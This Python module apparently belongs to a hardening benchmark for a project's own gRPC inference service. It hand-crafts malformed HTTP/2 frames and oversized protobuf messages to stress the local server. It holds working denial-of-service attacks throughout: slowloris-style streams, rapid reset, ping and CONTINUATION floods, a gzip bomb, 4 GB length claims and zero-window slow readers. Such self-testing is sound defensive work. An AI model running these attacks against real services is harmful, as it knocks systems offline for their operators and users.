"""Attacks on the gRPC port for the part ``hostile``: HTTP/2 frames that no client would send, and expensive messages.

The frames are made here, as libraries refuse to make them. Headers are literals, without a table or Huffman coding.
"""

import asyncio
import contextlib
import functools
import struct
import time
from collections.abc import Callable, Coroutine, Mapping
from typing import Any, Final

import numpy as np

from deploy.bench.hostile import Attack, AttackConnection, Target, crowd
from nightjar_alerts.service.local import HOST

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x8, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
MAX_FRAME: Final = 16_384
INITIAL_WINDOW: Final = 4  # a setting
STREAMS: Final = 32
"""Streams of a connection, which the server accepts; it closes connections with more."""
INFER: Final = "/inference.GRPCInferenceService/ModelInfer"
MESSAGE_BYTES: Final = 4 << 20
"""Maximum size of a message with the default settings."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(fields: Mapping[str, str]) -> bytes:
    """Return encoded headers; names and values have at most 126 bytes."""
    texts = ((name.encode(), value.encode()) for name, value in fields.items())
    return b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in texts)


def request_headers() -> bytes:
    """Return the encoded headers of a call."""
    fields = {":method": "POST", ":scheme": "http", ":path": INFER, ":authority": "localhost", "te": "trailers"}
    return header_block(fields | {"content-type": "application/grpc"})


def start(window: int = 65_535) -> bytes:
    """Return the first bytes of a connection; ``window`` is what the server may send of each response."""
    return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, window))


def streams(count: int) -> range:
    """Return the numbers of the streams that a client opens."""
    return range(1, 2 * count, 2)


def data_frames(stream: int, message: bytes) -> bytes:
    """Return the frames of a message."""
    whole = struct.pack(">BI", 0, len(message)) + message
    parts = [whole[at : at + MAX_FRAME] for at in range(0, len(whole), MAX_FRAME)]
    return b"".join(frame(DATA, END_STREAM * (part is parts[-1]), stream, part) for part in parts)


async def idle(target: Target) -> int:
    """Open connections and calls, and send no message."""
    opened = start() + b"".join(frame(HEADERS, END_HEADERS, stream, request_headers()) for stream in streams(STREAMS))

    async def behave(peer: AttackConnection) -> None:
        await peer.send(opened)
        await peer.receive_all()

    return await crowd(target, target.many(100), behave)


async def slow_messages(target: Target) -> int:
    """Send a byte of a message per second, on many streams."""
    prefix = struct.pack(">BI", 0, MESSAGE_BYTES)
    opened = start() + b"".join(
        frame(HEADERS, END_HEADERS, stream, request_headers()) + frame(DATA, 0, stream, prefix)
        for stream in streams(STREAMS)
    )
    drops = b"".join(frame(DATA, 0, stream, b"x") for stream in streams(STREAMS))

    async def behave(peer: AttackConnection) -> None:
        if await peer.send(opened):
            while peer.target.active and await peer.send(drops):
                await asyncio.sleep(1.0)

    return await crowd(target, target.many(100), behave)


async def unfinished_messages(target: Target) -> int:
    """Fill the window of every stream with a message that never ends, and send on whatever the server accepts."""
    part = bytes(MAX_FRAME - 5)
    prefix = struct.pack(">BI", 0, MESSAGE_BYTES)

    async def behave(peer: AttackConnection) -> None:
        await peer.send(start())
        for stream in streams(STREAMS):
            begun = frame(DATA, 0, stream, prefix + part) + frame(DATA, 0, stream, part) * 2
            if not await peer.send(frame(HEADERS, END_HEADERS, stream, request_headers()) + begun):
                return
        more = b"".join(frame(DATA, 0, stream, part) for stream in streams(STREAMS)[:16])
        while peer.target.active and await peer.receive() and await peer.send(more):
            pass

    return await crowd(target, target.many(50), behave, again=True)


async def giant_messages(target: Target) -> int:
    """State a length of 4 GB, and begin to send."""
    parts = b"".join(
        frame(HEADERS, END_HEADERS, stream, request_headers())
        + frame(DATA, 0, stream, struct.pack(">BI", 0, 2**32 - 1) + bytes(8192))
        for stream in streams(STREAMS)
    )
    return await crowd(target, target.many(100), sending(parts), again=True)


async def resets(target: Target) -> int:
    """Open calls and reset them at once, without a pause ("rapid reset")."""
    reset = struct.pack(">I", 8)

    async def behave(peer: AttackConnection) -> None:
        await peer.send(start())
        for first in range(1, 40_000, 2 * STREAMS):
            numbers = range(first, first + 2 * STREAMS, 2)
            opened = (
                frame(HEADERS, END_HEADERS, number, request_headers()) + frame(RST_STREAM, 0, number, reset)
                for number in numbers
            )
            if not target.active or not await peer.send(b"".join(opened)):
                return

    return await crowd(target, target.many(20), behave, again=True)


async def pings(target: Target) -> int:
    """Send pings and settings without a pause."""
    flood = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 500

    async def behave(peer: AttackConnection) -> None:
        await peer.send(start())
        while target.active and await peer.send(flood):
            await asyncio.sleep(0.01)

    return await crowd(target, target.many(50), behave, again=True)


async def endless_headers(target: Target) -> int:
    """Send continuations of headers without end, and many streams."""
    more = frame(CONTINUATION, 0, 1, header_block({f"x-{index}": "x" * 100 for index in range(100)}))
    return await crowd(
        target, target.many(50), sending(frame(HEADERS, 0, 1, request_headers()) + more * 100), again=True
    )


def sending(frames: bytes) -> Callable[[AttackConnection], Coroutine[Any, Any, None]]:
    """Return a behaviour that opens a connection, sends frames, and receives until the server closes."""

    async def behave(peer: AttackConnection) -> None:
        if await peer.send(start() + frames):
            await peer.receive_all()

    return behave


def calling(make: Callable[[], bytes], count: int, compressed: bool = False) -> Callable[[Target], Any]:
    """Return an attack with grpcio, which obeys flow control: one message, again and again, from ``count`` tasks."""

    async def run(target: Target) -> int:
        import grpc

        message = make()
        kind = grpc.Compression.Gzip if compressed else grpc.Compression.NoCompression
        options = [("grpc.max_send_message_length", -1)]

        async def call(channel: grpc.aio.Channel) -> int:
            sent = 0
            while target.active:
                with contextlib.suppress(grpc.RpcError):
                    await channel.unary_unary(INFER)(message, timeout=max(0.1, target.until - time.monotonic()))
                sent += len(message)
            return sent

        async with grpc.aio.insecure_channel(f"{HOST}:{target.port}", options, kind) as channel:
            return sum(await asyncio.gather(*(call(channel) for _ in range(max(1, int(count * target.scale))))))

    return run


async def slow_readers(target: Target) -> int:
    """Send valid calls, and allow the server to send no byte of their responses."""
    message = embeddings()
    calls = b"".join(
        frame(HEADERS, END_HEADERS, stream, request_headers()) + data_frames(stream, message)
        for stream in streams(STREAMS)
    )

    async def behave(peer: AttackConnection) -> None:
        await peer.send(start(window=0) + calls)
        await peer.until_the_end()

    return await crowd(target, target.many(20), behave)


@functools.cache
def many_tensors() -> bytes:
    """Make a message of two million empty tensors."""
    return b"\x2a\x00" * (MESSAGE_BYTES // 2 - 100)


@functools.cache
def many_texts() -> bytes:
    """Make a message with a million empty texts and a shape that fits them."""
    from nightjar_alerts.service.grpc.messages import ModelInferRequest

    count = 1_000_000
    request = ModelInferRequest()
    request.inputs.add(name="band", datatype="BYTES", shape=[count]).contents.bytes_contents.extend([b""] * count)
    return request.SerializeToString()


@functools.cache
def lying_shapes() -> bytes:
    """Make a message whose tensors have shapes of a trillion values, and no values."""
    from nightjar_alerts.service.grpc.messages import ModelInferRequest

    request = ModelInferRequest()
    for name, datatype in (("mjd", "FP64"), ("flux", "FP32"), ("flux_err", "FP32"), ("band", "BYTES")):
        request.inputs.add(name=name, datatype=datatype, shape=[2**31 - 1, 1, 1])
        request.raw_input_contents.append(b"")
    return request.SerializeToString()


def zeros() -> bytes:
    """Make a message that gzip shrinks a thousandfold."""
    return bytes(64 << 20)


@functools.cache
def embeddings() -> bytes:
    """Make a valid message with a large response, so small that a connection may send one on every stream at once."""
    from nightjar_alerts.service.grpc.messages import ModelInferRequest

    curves, points = 40, 2
    columns = {
        "mjd": ("FP64", np.tile(60_000.0 + np.arange(points), curves)),
        "flux": ("FP32", np.full(curves * points, 5000.0, np.float32)),
        "flux_err": ("FP32", np.full(curves * points, 300.0, np.float32)),
        "band": ("UINT8", np.tile(np.arange(points, dtype=np.uint8), curves)),
        "offsets": ("INT64", np.arange(curves + 1) * points),
    }
    request = ModelInferRequest(outputs=[{"name": "embedding"}, {"name": "probabilities"}])
    for name, (datatype, column) in columns.items():
        request.inputs.add(name=name, datatype=datatype, shape=column.shape)
        request.raw_input_contents.append(column.tobytes())
    return request.SerializeToString()


def grpc_attacks() -> list[Attack]:
    """Return all attacks on the gRPC port."""
    named: Mapping[str, Callable[[Target], Coroutine[Any, Any, int]]] = {
        "idle": idle,
        "slow messages": slow_messages,
        "unfinished messages": unfinished_messages,
        "giant messages": giant_messages,
        "resets": resets,
        "pings": pings,
        "endless headers": endless_headers,
        "many tensors": calling(many_tensors, 4),
        "many texts": calling(many_texts, 4),
        "lying shapes": calling(lying_shapes, 20),
        "gzip bomb": calling(zeros, 4, compressed=True),
        "slow readers": slow_readers,
    }
    return [Attack(f"gRPC {name}", run, is_grpc=True) for name, run in named.items()]
